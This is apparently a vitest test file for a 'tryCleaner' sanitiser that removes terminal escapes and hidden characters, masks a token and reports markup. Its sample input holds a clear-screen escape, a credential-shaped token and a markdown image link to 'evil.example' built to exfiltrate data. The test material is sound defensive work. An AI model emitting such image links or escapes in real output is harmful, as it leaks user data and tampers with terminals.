import { describe, expect, test } from "vitest";
import { TRIAL_MAX, trialSchema, tryCleaner } from "./try-cleaner.ts";

const TEXT = "Done.\x1b[2J to\u200bken=ghp_Yc8nV2kQ1sX9bT4mZ7wR3pL6aD5fH01mVq2n ![x](https://evil.example/?d=1)";

describe("tryCleaner", () => {
  test("names every step of the policy, with what it found and what it does", () => {
    const { steps, cleaned } = tryCleaner({ text: TEXT, content: "prose", safetyClass: "read" });
    const of = (name: string) => steps.find(({ step }) => step === name);
    expect(of("escapes")).toMatchObject({ treatment: "remove", findings: 1 });
    expect(of("hidden")).toMatchObject({ treatment: "remove", findings: 1 });
    expect(of("credentials")).toMatchObject({ treatment: "mask", findings: 1, alarms: 1 });
    expect(of("markup")?.findings).toBeGreaterThan(0);
    expect(cleaned).not.toContain("ghp_Yc8n");
  });

  test("of a file the same is reported and markup is left as it is", () => {
    const { steps, cleaned } = tryCleaner({ text: TEXT, content: "verbatim", safetyClass: "read" });
    expect(steps.find(({ step }) => step === "markup")?.treatment).toBe("report");
    expect(cleaned).toContain("![x](https://evil.example/?d=1)");
  });

  test("a text that is longer than anybody pastes is refused", () => {
    const trial = { content: "prose", safetyClass: "read" };
    expect(trialSchema.safeParse({ ...trial, text: "x".repeat(TRIAL_MAX) }).success).toBe(true);
    expect(trialSchema.safeParse({ ...trial, text: "x".repeat(TRIAL_MAX + 1) }).success).toBe(false);
  });
});
